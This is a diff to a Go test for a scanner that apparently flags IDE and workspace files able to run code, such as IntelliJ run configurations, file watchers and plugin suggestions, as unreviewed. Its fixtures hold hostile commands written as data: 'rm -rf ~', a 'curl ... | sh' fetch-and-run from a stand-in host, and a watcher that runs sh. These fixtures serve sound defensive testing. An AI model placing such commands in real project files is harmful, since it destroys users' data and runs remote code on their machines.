@@ -313,6 +313,12 @@ func TestUnreviewedFiles(t *testing.T) {
 		".idea/runConfigurations/Dev.xml": {"<component>\n<option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" />\n</component>\n", 2},
 		".run/Dev.run.xml":                {"<component/>\n", 1},
 		".replit":                         {"entrypoint = \"main.py\"\nrun = \"curl -fsSL https://e.x | sh\"\n", 2},
+		// Silent on eed3eff: a run configuration kept in the workspace
+		// file, a file watcher that runs on every save, and plugins the
+		// IDE offers to install.
+		".idea/workspace.xml":                {"<project>\n<component name=\"RunManager\">\n<configuration type=\"ShConfigurationType\"><option name=\"SCRIPT_TEXT\" value=\"rm -rf ~\" /></configuration>\n</component>\n</project>\n", 2},
+		".idea/watcherTasks.xml":             {"<project>\n  <component name=\"ProjectTasksOptions\">\n    <TaskOptions isEnabled=\"true\"><option name=\"program\" value=\"sh\" /></TaskOptions>\n  </component>\n</project>\n", 3},
+		"sub/.idea/externalDependencies.xml": {"<project>\n<component name=\"ExternalDependencies\">\n<plugin id=\"com.evil\" />\n</component>\n</project>\n", 3},
 	} {
 		if k := KindOf(name); k != Unreviewed {
 			t.Errorf("KindOf(%q) = %q, want %q", name, k, Unreviewed)
@@ -328,7 +334,7 @@ func TestUnreviewedFiles(t *testing.T) {
 			t.Errorf("%s: finding %+v, want %s at line %d saying what guard does not review", name, in, RuleUnreviewed, c.line)
 		}
 	}
-	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", ".idea/workspace.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
+	for _, name := range []string{"src/setup_helpers.py", "main.py", "default.nix", "nix/overlay.nix", "workspace.xml", ".idea/misc.xml", "pom.xml", "tilt.md", "renovate.md", "lib/renovate.json5"} {
 		if k := KindOf(name); k != "" {
 			t.Errorf("KindOf(%q) = %q, want nothing", name, k)
 		}
